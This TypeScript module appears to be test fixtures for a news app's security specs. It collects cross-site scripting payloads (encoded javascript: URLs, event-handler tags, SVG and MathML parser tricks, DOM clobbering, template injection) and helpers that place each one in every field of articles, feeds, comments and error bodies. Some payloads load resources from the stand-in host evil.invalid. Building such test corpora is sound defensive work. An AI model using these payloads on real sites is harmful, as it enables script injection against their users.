// Hostile content for the security specs: our own corpus of script-injection attempts, built
// from the techniques the public XSS cheat sheets describe (tags, event handlers, URL schemes
// and their encodings, parser and namespace confusion, CSS, templates, JSON and Unicode
// tricks), and the contract documents that carry them in every text field.
//
// Every payload that could run does one of: open a dialog, call `top.__xss()`, request a URL on
// EVIL_HOST, or navigate away. The specs watch for all four, and for CSP violations.

export const EVIL_HOST = 'evil.invalid';
const evil = `//${EVIL_HOST}/x`;
const js = 'javascript:alert(1)';

/** URL-scheme tricks: each is a way of writing `javascript:` (or another active scheme). */
const schemes = [
  js,
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\tjavascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\rscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript&colon;alert(1)',
  '&#106;avascript:alert(1)',
  '&#x6A;avascript:alert(1)',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  'javascript://%0aalert(1)',
  'javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>*/alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'livescript:alert(1)',
  'jar:https://evil.invalid/x!/',
  'blob:https://evil.invalid/x',
  'filesystem:https://evil.invalid/x',
  `${evil}`,
  '\\\\evil.invalid\\x',
  'https:evil.invalid',
];

/** Markup tricks, for fields that may hold HTML and for plain-text fields alike. */
const markup = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>',
  '<script>top.__xss()</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="top.__xss()">',
  '<img/src/onerror=alert(1)>',
  '<img src="x" onerror  =  alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<img src="https://evil.invalid/x" onload=alert(1)>',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">tap</text></a></svg>',
  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>tap</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<body onload=alert(1)>',
  '<body onpageshow=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  `<iframe src="${evil}"></iframe>`,
  '<object data="javascript:alert(1)"></object>',
  `<object data="${evil}" type="text/html"></object>`,
  `<embed src="${evil}">`,
  '<embed src="data:text/html,<script>alert(1)</script>">',
  `<form action="${evil}"><button>go</button></form>`,
  '<form><button formaction="javascript:alert(1)">go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)></select>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<keygen autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video poster=javascript:alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onmouseover=alert(1) style="position:fixed;inset:0">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  `<div style="background-image:url(${evil})">x</div>`,
  '<div style="width:expression(alert(1))">x</div>',
  `<style>@import "${evil}";</style>`,
  `<style>*{background:url(${evil})}</style>`,
  `<link rel=stylesheet href="${evil}">`,
  `<link rel=preload href="${evil}" as=script>`,
  `<meta http-equiv="refresh" content="0;url=${evil}">`,
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  `<base href="${evil}/">`,
  '<a href="javascript:alert(1)">tap</a>',
  '<a href="&#106;avascript:alert(1)">tap</a>',
  '<a href=" &#14;  javascript:alert(1)">tap</a>',
  '<a href="jav&#x09;ascript:alert(1)">tap</a>',
  '<a href="javas&#99;ript:alert(1)">tap</a>',
  '<a href="data:text/html,<script>alert(1)</script>">tap</a>',
  '<a href="https://example.com" onclick="alert(1)">tap</a>',
  '<a href="https://example.com" target="_top" ping="https://evil.invalid/x">tap</a>',
  '<a id="x" name="__proto__" href="https://example.com">clobber</a>',
  '<form id="config"><input name="backend"></form>',
  '<img name="getElementById" src="x">',
  '<p><img srcset="https://evil.invalid/x 1x" src="x" onerror=alert(1)></p>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<noembed><img src=x onerror=alert(1)></noembed>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<p>ok</p><scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<img """><script>alert(1)</script>">',
  '<img src=`x` onerror=alert(1)>',
  '<div/onmouseover="alert(1)">x</div>',
  '<a href="https://example.com"\u0000onclick=alert(1)>tap</a>',
  '<p style="x" class="x" id="y" onclick="alert(1)" data-x="y" is="x-y">attrs</p>',
  '<x-broadsheet onconnect=alert(1)>custom</x-broadsheet>',
  '<portal src="https://evil.invalid/x"></portal>',
  '<frameset onload=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<h1 contenteditable onfocus=alert(1) autofocus>x</h1>',
  '<button popovertarget=p>x</button><div popover id=p onbeforetoggle=alert(1)>x</div>',
  '<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>',
];

/** Tricks aimed at the page's own code rather than the HTML parser. */
const textTricks = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{alert(1)}',
  '{{7*7}}<%= 7*7 %>',
  '\u2028\u2029</script><script>alert(1)</script>',
  '\u202Egnp.exe\u202C <script>alert(1)</script>',
  '\uFEFF<img src=x onerror=alert(1)>',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '"; alert(1); "',
  "'-alert(1)-'",
  '</script><script>alert(1)</script>',
  'x" onmouseover="alert(1)',
  "x' onmouseover='alert(1)",
];

export const vectors: string[] = [...schemes, ...markup, ...textTricks];

/** The same vectors as link targets inside otherwise ordinary HTML. */
function asHtml(vector: string): string {
  return `<p>Before ${vector} after</p><p><a href="${vector.replace(/"/g, '&quot;')}">a link</a></p>` +
    `<figure><img src="${vector.replace(/"/g, '&quot;')}" alt="x"><figcaption>${vector}</figcaption></figure>`;
}

const when = '2026-11-20T08:00:00Z';

/** A contract article with `vector` in every text and URL field and in every block type. */
export function hostileArticle(id: string, vector: string): Record<string, unknown> {
  return {
    id,
    title: `Hostile ${vector}`,
    url: vector,
    summary: vector,
    source: { name: vector, url: vector, logo_url: vector },
    authors: [{ name: vector, url: vector, avatar_url: vector }],
    published_at: when,
    updated_at: when,
    image: { url: vector, alt: vector, width: 800, height: 450, caption: vector, credit: vector },
    section: vector,
    tags: [vector, `tag ${vector}`],
    language: vector,
    comments: { enabled: true, count: 2 },
    body: [
      { type: 'paragraph', text: `Paragraph ${vector}` },
      { type: 'heading', level: 2, text: vector },
      { type: 'quote', text: vector, cite: vector },
      { type: 'list', ordered: false, items: [vector, vector] },
      { type: 'image', url: vector, alt: vector, caption: vector, credit: vector },
      { type: 'html', html: vector },
      { type: 'html', html: asHtml(vector) },
      { type: vector, text: vector, html: vector },
    ],
  };
}

/** A related/feed item with `vector` in every field. */
export function hostileSummary(id: string, vector: string): Record<string, unknown> {
  return {
    id,
    title: `Hostile ${vector}`,
    url: vector,
    source: { name: vector, url: vector, logo_url: vector },
    published_at: when,
    excerpt: vector,
    image: { url: vector, alt: vector, width: 800, height: 450, caption: vector },
    comment_count: 1,
  };
}

/** A comment (and a reply) with `vector` as its author's name, link and avatar, and its body. */
export function hostileComments(vector: string, n: number): Record<string, unknown>[] {
  return [
    { id: `c${n}`, parent_id: null, author: { name: vector, url: vector, avatar_url: vector }, body: vector, created_at: when, score: 1 },
    { id: `r${n}`, parent_id: `c${n}`, author: { name: `Reply ${vector}` }, body: `Reply ${vector}`, created_at: when, edited_at: when },
  ];
}

/** The contract's error body, with `vector` as the message a rejected post shows. */
export function hostileError(vector: string): Record<string, unknown> {
  return { error: { code: vector, message: vector, field: vector } };
}
